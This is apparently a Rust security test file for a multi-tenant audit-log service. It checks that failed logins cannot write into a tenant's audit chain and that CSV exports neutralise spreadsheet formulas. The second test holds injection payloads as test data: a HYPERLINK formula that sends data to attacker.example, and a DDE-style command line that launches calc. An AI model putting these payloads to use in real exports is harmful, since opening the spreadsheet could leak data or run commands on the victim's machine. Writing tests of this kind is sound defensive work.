//! 4. Nobody writes into a tenant's chain without being someone of that tenant, and exports
//! cannot smuggle spreadsheet formulas.

use serde_json::json;
use tessera::audit::verify::{PublicKeys, Verdict, verify_export};

use crate::helpers::{As, PASSWORD, spawn_app_with};

#[tokio::test]
async fn attack_04_failed_logins_naming_a_tenant_never_reach_its_chain() {
    let app = spawn_app_with(|s| {
        s.server.trusted_proxies = vec!["127.0.0.1".into()];
        s.auth.login_max_failures_per_account = 1000;
    })
    .await;
    let root = app.platform_admin().await;
    let acme = app.tenant_with_members(&root, "acme").await;
    let before: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_events WHERE tenant_id = $1::uuid")
        .bind(&acme.id)
        .fetch_one(&app.db)
        .await
        .unwrap();

    for i in 0..30 {
        let body = json!({ "email": acme.emails["owner"], "password": format!("guess-{i}"), "tenant": "acme" });
        let response = app.client.post(app.url("/v1/auth/login")).header("x-forwarded-for", "198.51.100.4").json(&body).send().await.unwrap();
        assert_eq!(response.status(), 401);
    }
    // A stranger with a valid account of their own, asking for acme, is refused too.
    let root_to_acme = json!({ "email": "outsider@example.com", "password": "whatever-password", "tenant": "acme" });
    app.post_json("/v1/auth/login", None, &root_to_acme).await;

    let flushed = app.state.identity.flush_login_failures(time::OffsetDateTime::now_utc() + time::Duration::minutes(1)).await.unwrap();
    assert!(flushed >= 1);
    let after: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_events WHERE tenant_id = $1::uuid")
        .bind(&acme.id)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(after, before, "an unauthenticated caller wrote into acme's chain");

    // The platform chain has one event for the thirty attempts, with their count.
    let collapsed: Vec<serde_json::Value> = sqlx::query_scalar(
        "SELECT details FROM audit_events WHERE tenant_id = '00000000-0000-0000-0000-000000000000' \
         AND action = 'auth.login' AND outcome = 'failure' AND details->>'email' = $1",
    )
    .bind(&acme.emails["owner"])
    .fetch_all(&app.db)
    .await
    .unwrap();
    assert_eq!(collapsed.len(), 1, "{collapsed:?}");
    assert_eq!(collapsed[0]["attempts"], 30);
    assert_eq!(collapsed[0]["tenant"], "acme");
    let staged: i64 = sqlx::query_scalar("SELECT count(*) FROM login_failures").fetch_one(&app.db).await.unwrap();
    assert_eq!(staged, 0, "flushed rows are chained once and removed");
}

#[tokio::test]
async fn attack_04_formula_cells_in_csv_exports_are_neutralised_and_still_verify() {
    let app = spawn_app_with(|_| {}).await;
    let root = app.platform_admin().await;
    let acme = app.tenant_with_members(&root, "acme").await;
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
    for agent in [formula, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"] {
        let body = json!({ "email": acme.emails["owner"], "password": PASSWORD, "tenant": "acme" });
        let response = app.client.post(app.url("/v1/auth/login")).header("user-agent", agent).json(&body).send().await.unwrap();
        assert_eq!(response.status(), 200);
    }
    let owner = app.credential(As::Owner, &acme, &root).await.unwrap();
    let csv = app.get_as("/v1/tenants/acme/audit/export?format=csv", &owner).await.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).flexible(true).from_reader(csv.as_bytes());
    let mut agents = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
        }
        if record.get(12).is_some_and(|a| a.contains("HYPERLINK") || a.contains("cmd|")) {
            agents += 1;
        }
    }
    assert!(agents >= 2, "the user agents are still exported, neutralised");
    let keys = PublicKeys::parse(&app.get("/v1/audit/keys").await.text().await.unwrap()).unwrap();
    let verdict = verify_export(std::io::BufReader::new(csv.as_bytes()), &keys);
    assert!(matches!(verdict, Verdict::Ok { .. }), "{verdict}");
}
